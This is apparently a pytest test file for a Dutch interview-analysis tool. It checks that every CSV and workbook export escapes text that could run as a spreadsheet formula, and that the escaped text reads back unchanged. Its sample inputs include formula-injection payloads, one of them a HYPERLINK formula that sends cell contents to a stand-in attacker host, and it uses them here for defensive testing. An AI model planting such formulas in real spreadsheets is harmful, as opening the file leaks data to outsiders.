"""No text becomes a formula in a spreadsheet program, and every text is read back as it was."""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import narratief
from narratief.files.csv_table import csv_table, read_csv_table
from narratief.files.formulas import escape_formulas, is_formula_like, unescape_formulas
from narratief.publish.formats import FORMATS, ExportContent
from narratief.synthesis import code_records, overall_synthesis, project_synthesis
from narratief.synthesis.write import write_overall, write_project
from tests.synthesis.conftest import make_result

STARTS = ("=", "+", "-", "@", "\t", "\r")
NASTY = ('=HYPERLINK("http://kwaad.example/?"&A1;"klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "\uff1d1")
TEXT = st.text(st.sampled_from("=+-@'\t\r\n; ,\"ab\uff1d\uff0b\uff0d\uff20"), max_size=12)


def cells(data: bytes, separator: str) -> list[str]:
    """The cells as a spreadsheet program makes them whose lists have this separator."""
    return [cell for row in csv.reader(io.StringIO(data.decode(), newline=""), delimiter=separator) for cell in row]


@settings(max_examples=2000, deadline=None)
@given(TEXT)
def test_a_guarded_text_begins_no_formula_and_gives_the_text_back(text: str) -> None:
    safe = escape_formulas(text)
    assert unescape_formulas(safe) == text
    assert not is_formula_like(safe)
    for piece in re.split(r"[;\r\n]", safe):
        assert not piece.lstrip(" \t").startswith(STARTS[:4])


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_any_text_comes_back(text: str) -> None:
    assert unescape_formulas(escape_formulas(text)) == text


@pytest.mark.parametrize(
    "text", ["gewoon", "", "'s avonds belde niemand", "5-3", "a=b", "x; y", "dat - nou ja - was het"]
)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert escape_formulas(text) == text


@pytest.mark.parametrize("text", NASTY)
def test_a_nasty_text_gets_one_apostrophe(text: str) -> None:
    assert escape_formulas(text).startswith("'")
    assert escape_formulas(text).count("'") >= text.count("'") + 1


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(TEXT, min_size=3, max_size=3), max_size=4))
def test_a_table_comes_back_and_holds_no_formula_with_either_separator(rows: list[list[str]]) -> None:
    data = csv_table(["a", "=b", "c"], rows)
    assert read_csv_table(data) == [dict(zip(["a", "=b", "c"], row, strict=True)) for row in rows]
    assert not [cell for cell in cells(data, ",") if is_formula_like(cell)]
    assert not [cell for cell in cells(data, ";") if cell.lstrip(" \t").startswith(STARTS[:4])]


def test_a_negative_number_is_a_number() -> None:
    assert csv_table(["alfa"], [(-0.25,), (None,)]) == b'alfa\n-0.25\n""\n'


@pytest.fixture
def hostile():
    """A project whose name, title, theme, interviews and quotes all look like formulas."""
    said = [(text.strip() + " daarna hoorden wij niets meer van de gemeente.", ["feedback_silence"]) for text in NASTY]
    made = make_result({f"{sign}gesprek{n}.txt": said for n, sign in enumerate("=+-@=@")}, name="-plein")
    facts = made.facts.model_copy(update={"title": "=1+1", "scale": "@wijk", "period": "+2025"})
    themes = tuple(t.model_copy(update={"label": f"={t.label}"}) for t in made.codebook.themes)
    return replace(made, facts=facts, codebook=made.codebook.model_copy(update={"themes": themes}))


def csv_files(result, folder: Path) -> dict[str, bytes]:
    """Every CSV that narratief writes, in whatever format or archive."""
    synthesis = project_synthesis(result)
    files = {}
    paths = write_project(synthesis, code_records(result), folder) + write_overall(
        overall_synthesis([synthesis]), folder
    )
    paths += [
        FORMATS[name].export(ExportContent(result), folder / f"{name}{FORMATS[name].suffix}")
        for name in ("csv", "matrix")
    ]
    paths += [
        form.export(ExportContent(result), folder / f"{name}.zip")
        for name, form in FORMATS.items()
        if form.suffix == ".zip"
    ]
    for path in paths:
        if path.suffix == ".csv":
            files[path.name] = path.read_bytes()
        if path.suffix == ".zip":
            with zipfile.ZipFile(path) as opened:
                files |= {name: opened.read(name) for name in opened.namelist() if name.endswith(".csv")}
    return files


def test_no_cell_of_any_csv_begins_as_a_formula(hostile, tmp_path: Path) -> None:
    files = csv_files(hostile, tmp_path)
    assert set(files) == {
        "codes.csv",
        "momenten.csv",
        "overzicht.csv",
        "csv.csv",
        "matrix.csv",
        "projecten.csv",
        "themas.csv",
        "wie-vertelde-wat.csv",
        "samenhang.csv",
        "tellingen.csv",
    }
    for name, data in files.items():
        found = cells(data, ",")
        assert not [cell for cell in found if is_formula_like(cell) and not re.fullmatch(r"-[\d.]+", cell)], name
        # no theme with a name like a formula goes together with another
        assert name in {"samenhang.csv", "momenten.csv"} or any(cell.startswith("'") for cell in found), name


def test_what_is_read_back_is_the_stored_text_also_from_parquet(hostile, tmp_path: Path) -> None:
    files = csv_files(hostile, tmp_path)
    texts = {interview.id: interview.text for interview in hostile.interviews}
    assert all(name[0] in "=+-@" for name in texts)
    for name, parquet in (("codes.csv", tmp_path / "codes.parquet"), ("csv.csv", None)):
        lines = read_csv_table(files[name])
        assert len(lines) == len(hostile.codes)
        for line in lines:
            assert texts[line["interview"]][int(line["start"]) : int(line["end"])] == line["text"]
        if parquet:
            assert [row["text"] for row in pq.read_table(parquet).to_pylist()] == [line["text"] for line in lines]


def test_workbooks_guard_by_the_same_rule(hostile, tmp_path: Path) -> None:
    write_project(project_synthesis(hostile), code_records(hostile), tmp_path)
    book = openpyxl.load_workbook(tmp_path / "synthese.xlsx")
    found = [cell for sheet in book for row in sheet for cell in row if isinstance(cell.value, str)]
    risky = [cell for cell in found if is_formula_like(cell.value)]
    assert risky
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)


def test_nothing_else_writes_csv() -> None:
    root = Path(narratief.__file__).parent
    users = set()
    for path in root.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter", "to_csv", "write_csv"}:
                users.add(str(path.relative_to(root)))
    assert users == {"files/csv_table.py"}
